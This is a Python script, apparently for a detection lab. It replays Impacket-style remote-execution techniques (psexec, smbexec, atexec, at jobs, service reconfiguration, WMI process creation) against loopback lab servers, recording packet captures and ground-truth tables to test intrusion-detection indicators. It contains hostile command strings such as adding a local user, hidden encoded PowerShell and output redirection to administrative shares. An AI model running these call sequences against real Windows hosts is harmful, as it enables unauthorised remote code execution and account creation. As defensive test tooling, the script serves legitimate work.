"""Attack-lab scenarios: Impacket clients against the lab servers, one capture each.

Usage: scenarios.py OUTDIR [NAME...]

For each scenario (in the fixed order of SCENARIOS) this starts tcpdump on the
loopback interface with a filter naming only the scenario's public ports, runs the
client calls, stops tcpdump by its pid and writes OUTDIR/<name>.pcap and
OUTDIR/<name>.truth.tsv. The truth rows are recorded by wrapping each DCE-RPC
binding's `request` method, so they list exactly what the client sent, in order.
"""

import os
from xml.sax.saxutils import unescape
import random
import re
import signal
import subprocess
import sys
import time
from struct import pack

from impacket.dcerpc.v5 import atsvc, epm, scmr, srvs, transport, tsch
from impacket.dcerpc.v5.dcom import wmi
from impacket.dcerpc.v5.dcomrt import ORPCTHIS, OBJREF_CUSTOM
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import (
    RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
    RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
)
from impacket.smbconnection import SMB_DIALECT
from impacket.uuid import uuidtup_to_bin

from rpcserver import LAB_DOMAIN, LAB_PASSWORD, LAB_USER
import servers as srv

HOST = "127.0.0.1"

# Zeek's names (reference/zeek-endpoints.tsv and zeek-operations.tsv) for the
# interfaces and operations the scenarios call.
ENDPOINTS = {
    "367abb81-9844-35f1-ad32-98f038001003": "svcctl",
    "86d35949-83c9-4044-b424-db363231fd0c": "ITaskSchedulerService",
    "1ff70682-0a51-30e8-076d-740be8cee98b": "atsvc",
    "4b324fc8-1670-01d3-1278-5a47bf6ee188": "srvsvc",
    "e1af8308-5d1f-11c9-91a4-08002b14a0fa": "epmapper",
    "9556dc99-828c-11cf-a37e-00aa003240c7": "IWbemServices",
}
OPERATIONS = {
    ("svcctl", 0): "CloseServiceHandle",
    ("svcctl", 1): "ControlService",
    ("svcctl", 2): "DeleteService",
    ("svcctl", 6): "QueryServiceStatus",
    ("svcctl", 11): "ChangeServiceConfigW",
    ("svcctl", 12): "CreateServiceW",
    ("svcctl", 15): "OpenSCManagerW",
    ("svcctl", 16): "OpenServiceW",
    ("svcctl", 19): "StartServiceW",
    ("ITaskSchedulerService", 1): "SchRpcRegisterTask",
    ("ITaskSchedulerService", 12): "SchRpcRun",
    ("ITaskSchedulerService", 13): "SchRpcDelete",
    ("atsvc", 0): "NetrJobAdd",
    ("srvsvc", 15): "NetrShareEnum",
    ("epmapper", 3): "ept_map",
    ("IWbemServices", 24): "ExecMethod",
}
# The `improved` execution indicator set (reference/indicators-execution.tsv).
EXECUTION = {
    ("svcctl", 12),
    ("svcctl", 24),
    ("svcctl", 44),
    ("svcctl", 45),
    ("svcctl", 60),
    ("svcctl", 19),
    ("svcctl", 31),
    ("ITaskSchedulerService", 1),
    ("ITaskSchedulerService", 12),
    ("ITaskSchedulerService", 19),
    ("atsvc", 0),
    ("IWbemServices", 24),
    ("IWbemServices", 25),
}

COLUMNS = [
    "call_index",
    "transport",
    "named_pipe_or_port",
    "uuid",
    "endpoint",
    "opnum",
    "operation",
    "execution_indicator",
    "service_name",
    "binary_path",
    "task_command",
    "wmi_command_line",
]


def _text(value):
    if value is None or value is NULL:
        return "-"
    if isinstance(value, bytes):
        value = value.decode("utf-16le")
    value = str(value).rstrip("\x00")
    if "\t" in value or "\n" in value:
        raise ValueError("truth values must not hold tabs or newlines: %r" % value)
    return value or "-"


def _task_command(xml):
    if isinstance(xml, bytes):
        xml = xml.decode("utf-16le")
    cmd = re.search(r"<Command>(.*?)</Command>", xml, re.S)
    args = re.search(r"<Arguments>(.*?)</Arguments>", xml, re.S)
    parts = [unescape(m.group(1).strip()) for m in (cmd, args) if m]
    return _text(" ".join(parts)) if parts else "-"


class Recorder:
    """Collects one truth row per request a wrapped binding sends."""

    def __init__(self):
        self.rows = []

    def wrap(self, dce, uuid, transport_name, where, wmi_command_line=None):
        endpoint = ENDPOINTS[uuid]
        original = dce.request

        def request(req, uuid=None, checkError=True):
            self.rows.append(self.row(req, endpoint, transport_name, where, wmi_command_line))
            return original(req, uuid=uuid, checkError=checkError)

        dce.request = request
        dce.lab_uuid = uuid
        return dce

    def row(self, req, endpoint, transport_name, where, wmi_command_line):
        opnum = req.opnum
        args = {"service_name": "-", "binary_path": "-", "task_command": "-", "wmi_command_line": "-"}
        fields = req.fields
        if "lpServiceName" in fields:
            args["service_name"] = _text(req["lpServiceName"])
        if "lpBinaryPathName" in fields:
            args["binary_path"] = _text(req["lpBinaryPathName"])
        if endpoint == "ITaskSchedulerService" and "xml" in fields:
            args["task_command"] = _task_command(req["xml"])
        if endpoint == "atsvc" and opnum == 0:
            args["task_command"] = _text(req["pAtInfo"]["Command"])
        if endpoint == "IWbemServices" and opnum in (24, 25):
            args["wmi_command_line"] = wmi_command_line
        uuid = [u for u, e in ENDPOINTS.items() if e == endpoint][0]
        return {
            "call_index": str(len(self.rows) + 1),
            "transport": transport_name,
            "named_pipe_or_port": where,
            "uuid": uuid,
            "endpoint": endpoint,
            "opnum": str(opnum),
            "operation": OPERATIONS[(endpoint, opnum)],
            "execution_indicator": "yes" if (endpoint, opnum) in EXECUTION else "no",
            **args,
        }

    def write(self, path):
        with open(path, "w") as f:
            f.write("\t".join(COLUMNS) + "\n")
            for row in self.rows:
                f.write("\t".join(row[c] for c in COLUMNS) + "\n")


# -- bindings ---------------------------------------------------------------


def smb_binding(rec, pipe, iface_uuid, dialect, smb_split=None, read_size=None, auth_level=None):
    """DCE-RPC over an SMB named pipe. dialect: 'smb1' or 'smb2'. auth_level:
    DCE-RPC NTLMSSP authentication inside the pipe (on top of the SMB session)."""
    t = transport.DCERPCTransportFactory(r"ncacn_np:%s[\pipe\%s]" % (HOST, pipe))
    t.set_dport(srv.SMB_PORT)
    t.set_credentials(LAB_USER, LAB_PASSWORD, LAB_DOMAIN)
    if dialect == "smb1":
        t.preferred_dialect(SMB_DIALECT)
    if smb_split:
        # Each PDU goes out in several SMB writes of at most smb_split bytes, and is
        # read back in reads of at most read_size bytes.
        t.set_max_fragment_size(smb_split)
        t._max_recv_frag = read_size
    dce = t.get_dce_rpc()
    if auth_level is not None:
        dce.set_auth_level(auth_level)
    dce.connect()
    dce.bind(uuidtup_to_bin((iface_uuid, _version(iface_uuid))))
    return rec.wrap(dce, iface_uuid, dialect, pipe)


def tcp_binding(rec, port, iface_uuid, auth_level=None, rpc_frag=None, wmi_command_line=None):
    t = transport.DCERPCTransportFactory("ncacn_ip_tcp:%s[%d]" % (HOST, port))
    t.set_credentials(LAB_USER, LAB_PASSWORD, LAB_DOMAIN)
    dce = t.get_dce_rpc()
    if auth_level is not None:
        dce.set_auth_level(auth_level)
    if rpc_frag:
        dce.set_max_fragment_size(rpc_frag)
    dce.connect()
    dce.bind(uuidtup_to_bin((iface_uuid, _version(iface_uuid))))
    return rec.wrap(dce, iface_uuid, "tcp", str(port), wmi_command_line)


VERSIONS = {
    "367abb81-9844-35f1-ad32-98f038001003": "2.0",
    "86d35949-83c9-4044-b424-db363231fd0c": "1.0",
    "1ff70682-0a51-30e8-076d-740be8cee98b": "1.0",
    "4b324fc8-1670-01d3-1278-5a47bf6ee188": "3.0",
    "e1af8308-5d1f-11c9-91a4-08002b14a0fa": "3.0",
    "9556dc99-828c-11cf-a37e-00aa003240c7": "0.0",
}


def _version(uuid):
    return VERSIONS[uuid]


SVCCTL = "367abb81-9844-35f1-ad32-98f038001003"
TSCH = "86d35949-83c9-4044-b424-db363231fd0c"
ATSVC = "1ff70682-0a51-30e8-076d-740be8cee98b"
SRVSVC = "4b324fc8-1670-01d3-1278-5a47bf6ee188"
EPM = "e1af8308-5d1f-11c9-91a4-08002b14a0fa"
WBEM = "9556dc99-828c-11cf-a37e-00aa003240c7"


def done(dce):
    dce.disconnect()


# -- call sequences (as Impacket's example tools make them) ------------------


def psexec_calls(dce, service, binary):
    """serviceinstall.py (psexec): create + start, later stop + delete."""
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    svc = scmr.hRCreateServiceW(
        dce, scm, service + "\x00", service + "\x00", lpBinaryPathName=binary + "\x00",
        dwStartType=scmr.SERVICE_DEMAND_START,
    )["lpServiceHandle"]
    scmr.hRStartServiceW(dce, svc)
    scmr.hRControlService(dce, svc, scmr.SERVICE_CONTROL_STOP)
    scmr.hRDeleteService(dce, svc)
    scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)


def smbexec_calls(dce, service, command):
    """smbexec.py: one service per command, started then deleted."""
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    batch = "%SYSTEMROOT%\\Temp\\execute.bat"
    binary = (
        "%COMSPEC% /Q /c echo " + command + " ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > "
        + batch + " & %COMSPEC% /Q /c " + batch + " & del " + batch
    )
    svc = scmr.hRCreateServiceW(
        dce, scm, service + "\x00", service + "\x00", lpBinaryPathName=binary + "\x00",
        dwStartType=scmr.SERVICE_DEMAND_START,
    )["lpServiceHandle"]
    try:
        scmr.hRStartServiceW(dce, svc)
    finally:
        scmr.hRDeleteService(dce, svc)
        scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)


def change_service_calls(dce, service, new_binary, old_binary):
    """Repoint an existing service at a command, start it, put it back."""
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    svc = scmr.hROpenServiceW(dce, scm, service + "\x00")["lpServiceHandle"]
    scmr.hRChangeServiceConfigW(dce, svc, lpBinaryPathName=new_binary + "\x00")
    scmr.hRStartServiceW(dce, svc)
    scmr.hRChangeServiceConfigW(dce, svc, lpBinaryPathName=old_binary + "\x00")
    scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)


TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers>
    <CalendarTrigger>
      <StartBoundary>2015-07-15T20:35:13.2757294</StartBoundary>
      <Enabled>true</Enabled>
      <ScheduleByDay>
        <DaysInterval>1</DaysInterval>
      </ScheduleByDay>
    </CalendarTrigger>
  </Triggers>
  <Principals>
    <Principal id="LocalSystem">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>
    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>
    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries>
    <IdleSettings>
      <StopOnIdleEnd>true</StopOnIdleEnd>
      <RestartOnIdle>false</RestartOnIdle>
    </IdleSettings>
    <AllowStartOnDemand>true</AllowStartOnDemand>
    <Enabled>true</Enabled>
    <Hidden>true</Hidden>
    <RunOnlyIfIdle>false</RunOnlyIfIdle>
    <WakeToRun>false</WakeToRun>
    <ExecutionTimeLimit>P3D</ExecutionTimeLimit>
    <Priority>7</Priority>
  </Settings>
  <Actions Context="LocalSystem">
    <Exec>
      <Command>{command}</Command>
      <Arguments>{arguments}</Arguments>
    </Exec>
  </Actions>
</Task>
"""


def atexec_calls(dce, task, command, arguments):
    """atexec.py: register a hidden task, run it, delete it."""
    xml = TASK_XML.format(command=command, arguments=arguments)
    tsch.hSchRpcRegisterTask(
        dce, "\\" + task, xml, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE
    )
    tsch.hSchRpcRun(dce, "\\" + task)
    tsch.hSchRpcDelete(dce, "\\" + task)


def at_calls(dce, command):
    """Legacy `at`: NetrJobAdd with an AT_INFO."""
    info = atsvc.AT_INFO()
    info["JobTime"] = 13 * 3600 * 1000  # 13:00, milliseconds after midnight
    info["DaysOfMonth"] = 0
    info["DaysOfWeek"] = 0
    info["Flags"] = 0x10  # JOB_NONINTERACTIVE (MS-TSCH 2.3.14)
    info["Command"] = command + "\x00"
    atsvc.hNetrJobAdd(dce, NULL, info)


def benign_svcctl_calls(dce, service):
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    svc = scmr.hROpenServiceW(dce, scm, service + "\x00")["lpServiceHandle"]
    scmr.hRQueryServiceStatus(dce, svc)
    scmr.hRCloseServiceHandle(dce, svc)
    scmr.hRCloseServiceHandle(dce, scm)


def share_enum_calls(dce):
    srvs.hNetrShareEnum(dce, 1, serverName="\\\\%s\x00" % HOST)


def epm_lookup(rec, iface_uuid):
    """epm.hept_map's request, on a wrapped binding to the mapper's port."""
    t = transport.DCERPCTransportFactory("ncacn_ip_tcp:%s[%d]" % (HOST, srv.EPM_PORT))
    dce = t.get_dce_rpc()
    dce.connect()
    rec.wrap(dce, EPM, "tcp", str(srv.EPM_PORT))
    binding = epm.hept_map(
        HOST, uuidtup_to_bin((iface_uuid, _version(iface_uuid))), protocol="ncacn_ip_tcp", dce=dce
    )
    dce.disconnect()
    return binding


# -- WMI ------------------------------------------------------------------------


def _encoded_string(text):
    s = wmi.ENCODED_STRING()
    s["Character"] = text
    return s.getData()


def _parameters_class(props):
    """CLASS_PART of a `__PARAMETERS` class with the given (name, cim type) props,
    encoded per MS-WMIO with Impacket's structures."""
    heap = _encoded_string("__PARAMETERS")
    lookups = b""
    for order, (name, cim_type) in enumerate(props):
        name_ref = len(heap)
        heap += _encoded_string(name)
        info = wmi.PROPERTY_INFO()
        info["PropertyType"] = cim_type
        info["DeclarationOrder"] = order
        info["ValueTableOffset"] = 4 * order
        info["ClassOfOrigin"] = 0
        qualifiers = wmi.QUALIFIER_SET()
        qualifiers["EncodingLength"] = 4
        qualifiers["Qualifier"] = b""
        info["PropertyQualifierSet"] = qualifiers.getData()
        info_ref = len(heap)
        heap += info.getData()
        lookups += pack("<LL", name_ref, info_ref)
    nd_len = (len(props) - 1) // 4 + 1
    nd_values = b"\x55" * nd_len + b"\x00" * (4 * len(props))  # every default null
    part = wmi.CLASS_PART()
    header = wmi.CLASS_HEADER()
    header["ReservedOctet"] = 0
    header["ClassNameRef"] = 0
    header["NdTableValueTableLength"] = len(nd_values)
    derivation = wmi.DERIVATION_LIST()
    derivation["EncodingLength"] = 4
    derivation["ClassNameEncoding"] = b""
    class_qualifiers = wmi.QUALIFIER_SET()
    class_qualifiers["EncodingLength"] = 4
    class_qualifiers["Qualifier"] = b""
    table = wmi.PROPERTY_LOOKUP_TABLE()
    table["PropertyCount"] = len(props)
    table["PropertyLookup"] = lookups
    class_heap = wmi.HEAP()
    class_heap["HeapLength"] = len(heap) | 0x80000000
    class_heap["HeapItem"] = heap
    header["EncodingLength"] = 0
    part["ClassHeader"] = header
    part["DerivationList"] = derivation
    part["ClassQualifierSet"] = class_qualifiers
    part["PropertyLookupTable"] = table
    part["NdTable_ValueTable"] = nd_values
    part["ClassHeap"] = class_heap
    header["EncodingLength"] = len(part.getData())
    part["ClassHeader"] = header
    return part


def win32_process_create_inparams(command_line, current_directory):
    """The in-parameters object of Win32_Process.Create, marshalled the way
    Impacket's IWbemClassObject method proxy does it (OBJREF_CUSTOM around an
    ENCODING_UNIT holding a __PARAMETERS instance)."""
    props = [
        ("CommandLine", wmi.CIM_TYPE_ENUM.CIM_TYPE_STRING.value),
        ("CurrentDirectory", wmi.CIM_TYPE_ENUM.CIM_TYPE_STRING.value),
        ("ProcessStartupInformation", wmi.CIM_TYPE_ENUM.CIM_TYPE_OBJECT.value),
    ]
    heap = _encoded_string("__PARAMETERS")
    values = b""
    for text in (command_line, current_directory):
        values += pack("<L", len(heap))
        heap += _encoded_string(text)
    values += b"\x00" * 4
    nd_table = pack("B", 0x3 << 4)  # ProcessStartupInformation: null, inherited default
    instance = wmi.INSTANCE_TYPE()
    instance["CurrentClass"] = b""
    instance["InstanceQualifierSet"] = b"\x04\x00\x00\x00\x01"
    instance["NdTable_ValueTable"] = nd_table + values
    instance_heap = wmi.HEAP()
    instance_heap["HeapLength"] = len(heap) | 0x80000000
    instance_heap["HeapItem"] = heap
    instance["InstanceHeap"] = instance_heap
    instance["EncodingLength"] = len(instance)
    instance["CurrentClass"] = _parameters_class(props)
    block = wmi.OBJECT_BLOCK()
    block.structure += wmi.OBJECT_BLOCK.instanceType
    block["ObjectFlags"] = wmi.CIM_INSTANCE
    block["Decoration"] = b""
    block["InstanceType"] = instance.getData()
    unit = wmi.ENCODING_UNIT()
    unit["ObjectBlock"] = block
    unit["ObjectEncodingLength"] = len(block)
    objref = OBJREF_CUSTOM()
    objref["iid"] = wmi.IID_IWbemClassObject[:-4]
    objref["clsid"] = wmi.CLSID_WbemClassObject
    objref["cbExtension"] = 0
    objref["ObjectReferenceSize"] = len(unit)
    objref["pObjectData"] = unit
    return objref


# Fixed IPID the lab's IWbemServices "object" answers to (ORPC object UUID).
WBEM_IPID = "00009801-0b38-0000-6b2e-9f3a1c2d4e5f"


def wmi_exec(dce, command_line, current_directory="C:\\"):
    """IWbemServices::ExecMethod("Win32_Process", "Create") as wmiexec.py sends it."""
    inparams = win32_process_create_inparams(command_line, current_directory)
    req = wmi.IWbemServices_ExecMethod()
    this = ORPCTHIS()
    this["version"]["MajorVersion"] = 5
    this["version"]["MinorVersion"] = 7
    this["flags"] = 0
    this["reserved1"] = 0
    this["cid"] = uuidtup_to_bin(("0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", "0.0"))[:16]
    this["extensions"] = NULL
    req["ORPCthis"] = this
    req["strObjectPath"]["asData"] = "Win32_Process"
    req["strMethodName"]["asData"] = "Create"
    req["lFlags"] = 0
    req["pCtx"] = NULL
    data = inparams.getData()
    req["pInParams"]["ulCntData"] = len(data)
    req["pInParams"]["abData"] = list(data)
    req.fields["ppCallResult"] = NULL
    req.fields["ppOutParams"].fields["Data"] = NULL
    ipid = uuidtup_to_bin((WBEM_IPID, "0.0"))[:16]
    dce.request(req, uuid=ipid)


# -- scenarios ------------------------------------------------------------------

SMB_PORTS = [srv.SMB_PORT]


def sc_psexec(rec, dialect):
    dce = smb_binding(rec, "svcctl", SVCCTL, dialect)
    psexec_calls(dce, "RKzq", "%SystemRoot%\\RKzqWbFd.exe")
    done(dce)


def sc_smbexec(rec):
    dce = smb_binding(rec, "svcctl", SVCCTL, "smb2")
    smbexec_calls(dce, "BTOBTO", "whoami")
    done(dce)


def sc_atexec(rec, dialect):
    dce = smb_binding(rec, "atsvc", TSCH, dialect)
    atexec_calls(dce, "qWeRtYuI", "cmd.exe", "/C whoami &gt; %windir%\\Temp\\qWeRtYuI.tmp 2&gt;&amp;1")
    done(dce)


def sc_at(rec, dialect):
    dce = smb_binding(rec, "atsvc", ATSVC, dialect)
    at_calls(dce, "cmd.exe /c net user lab Passw0rd! /add")
    done(dce)


def sc_change_service(rec):
    dce = smb_binding(rec, "svcctl", SVCCTL, "smb2")
    change_service_calls(
        dce,
        "UevAgentService",
        "C:\\Windows\\System32\\cmd.exe /c powershell -nop -w hidden -c whoami",
        "C:\\Windows\\system32\\AgentService.exe",
    )
    done(dce)


def sc_benign(rec):
    dce = smb_binding(rec, "srvsvc", SRVSVC, "smb2")
    share_enum_calls(dce)
    done(dce)
    binding = epm_lookup(rec, SVCCTL)
    port = int(binding.split("[")[1].rstrip("]"))
    dce = tcp_binding(rec, port, SVCCTL)
    benign_svcctl_calls(dce, "Spooler")
    done(dce)
    dce = smb_binding(rec, "svcctl", SVCCTL, "smb1")
    benign_svcctl_calls(dce, "W32Time")
    done(dce)


def sc_psexec_tcp(rec):
    binding = epm_lookup(rec, SVCCTL)
    port = int(binding.split("[")[1].rstrip("]"))
    dce = tcp_binding(rec, port, SVCCTL)
    psexec_calls(dce, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    done(dce)


def sc_schtask_tcp(rec):
    binding = epm_lookup(rec, TSCH)
    port = int(binding.split("[")[1].rstrip("]"))
    dce = tcp_binding(rec, port, TSCH)
    atexec_calls(dce, "Updater", "powershell.exe", "-nop -enc SQBFAFgA")
    done(dce)


def sc_wmi(rec):
    line = "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.0 2>&1"
    dce = tcp_binding(rec, srv.WMI_PORT, WBEM, wmi_command_line=line)
    wmi_exec(dce, line)
    done(dce)


def sc_rpcfrag(rec):
    dce = tcp_binding(rec, srv.FRAG_PORT, SVCCTL, rpc_frag=64)
    psexec_calls(dce, "FragSvc", "C:\\Windows\\Temp\\" + "frag\\" * 40 + "payload.exe")
    done(dce)
    dce = tcp_binding(rec, srv.FRAG_PORT, SRVSVC, rpc_frag=64)
    share_enum_calls(dce)
    done(dce)


def sc_bigstub(rec, dialect):
    dce = smb_binding(rec, "svcctl", SVCCTL, dialect, smb_split=1024, read_size=512)
    long_path = "C:\\Windows\\Temp\\" + "\\".join("d%03d" % i for i in range(700)) + "\\big.exe"
    psexec_calls(dce, "BigStubSvc", long_path)
    done(dce)
    dce = smb_binding(rec, "srvsvc", SRVSVC, dialect, smb_split=1024, read_size=128)
    share_enum_calls(dce)
    done(dce)


def sc_psexec_privacy(rec):
    """psexec over \\pipe\\svcctl with NTLMSSP packet privacy inside the pipe:
    the stubs are sealed, the SMB2 session itself is clear."""
    dce = smb_binding(rec, "svcctl", SVCCTL, "smb2", auth_level=RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    psexec_calls(dce, "SealSvc", "%SystemRoot%\\SealSvc.exe")
    done(dce)


def sc_atexec_privacy(rec):
    """atexec over \\pipe\\atsvc with NTLMSSP packet privacy: SchRpcRegisterTask
    and its task XML sealed."""
    dce = smb_binding(rec, "atsvc", TSCH, "smb2", auth_level=RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    atexec_calls(dce, "SealTask", "cmd.exe", "/C whoami &gt; %windir%\\Temp\\SealTask.tmp 2&gt;&amp;1")
    done(dce)


def sc_auth(rec, level):
    dce = tcp_binding(rec, srv.TCP_PORT, SVCCTL, auth_level=level)
    psexec_calls(dce, "AuthSvc", "%SystemRoot%\\AuthSvc.exe")
    done(dce)


# name, ports in the capture filter, function
SCENARIOS = [
    ("psexec_smb2", SMB_PORTS, lambda r: sc_psexec(r, "smb2")),
    ("psexec_smb1", SMB_PORTS, lambda r: sc_psexec(r, "smb1")),
    ("smbexec_smb2", SMB_PORTS, sc_smbexec),
    ("atexec_smb2", SMB_PORTS, lambda r: sc_atexec(r, "smb2")),
    ("atexec_smb1", SMB_PORTS, lambda r: sc_atexec(r, "smb1")),
    ("at_smb2", SMB_PORTS, lambda r: sc_at(r, "smb2")),
    ("at_smb1", SMB_PORTS, lambda r: sc_at(r, "smb1")),
    ("changeservice_smb2", SMB_PORTS, sc_change_service),
    ("benign_mixed", [srv.SMB_PORT, srv.EPM_PORT, srv.TCP_PORT], sc_benign),
    ("psexec_tcp", [srv.EPM_PORT, srv.TCP_PORT], sc_psexec_tcp),
    ("schtask_tcp", [srv.EPM_PORT, srv.TCP_PORT], sc_schtask_tcp),
    ("wmi_exec_tcp", [srv.WMI_PORT], sc_wmi),
    ("stress_rpcfrag_tcp", [srv.FRAG_PORT], sc_rpcfrag),
    ("stress_bigstub_smb2", SMB_PORTS, lambda r: sc_bigstub(r, "smb2")),
    ("stress_bigstub_smb1", SMB_PORTS, lambda r: sc_bigstub(r, "smb1")),
    ("stress_integrity_tcp", [srv.TCP_PORT], lambda r: sc_auth(r, RPC_C_AUTHN_LEVEL_PKT_INTEGRITY)),
    ("stress_privacy_tcp", [srv.TCP_PORT], lambda r: sc_auth(r, RPC_C_AUTHN_LEVEL_PKT_PRIVACY)),
    ("psexec_privacy_smb2", SMB_PORTS, sc_psexec_privacy),
    ("atexec_privacy_smb2", SMB_PORTS, sc_atexec_privacy),
]


# -- capture ----------------------------------------------------------------------


def start_tcpdump(path, ports):
    expr = "tcp and (" + " or ".join("port %d" % p for p in ports) + ")"
    proc = subprocess.Popen(
        # -Z root: write the file as root rather than as the tcpdump user.
        ["tcpdump", "-i", "lo", "-Z", "root", "--immediate-mode", "-U", "-s", "0", "-w", path, expr],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    # tcpdump says "listening on lo" once the capture is armed.
    line = proc.stderr.readline()
    if "listening" not in line:
        proc.kill()
        raise RuntimeError("tcpdump did not start: %s" % line)
    return proc


def stop_tcpdump(proc):
    time.sleep(0.5)  # let the last FIN/ACKs through
    os.kill(proc.pid, signal.SIGINT)
    proc.wait(timeout=10)


def main():
    outdir = sys.argv[1]
    only = set(sys.argv[2:])
    os.makedirs(outdir, exist_ok=True)
    for name, ports, run in SCENARIOS:
        if only and name not in only:
            continue
        random.seed(name)  # NDR referent ids and NTLM nonces: same calls every run
        rec = Recorder()
        pcap = os.path.join(outdir, name + ".pcap")
        dump = start_tcpdump(pcap, ports)
        try:
            run(rec)
        finally:
            stop_tcpdump(dump)
        rec.write(os.path.join(outdir, name + ".truth.tsv"))
        print("%-22s %3d calls %7d bytes" % (name, len(rec.rows), os.path.getsize(pcap)))


if __name__ == "__main__":
    main()
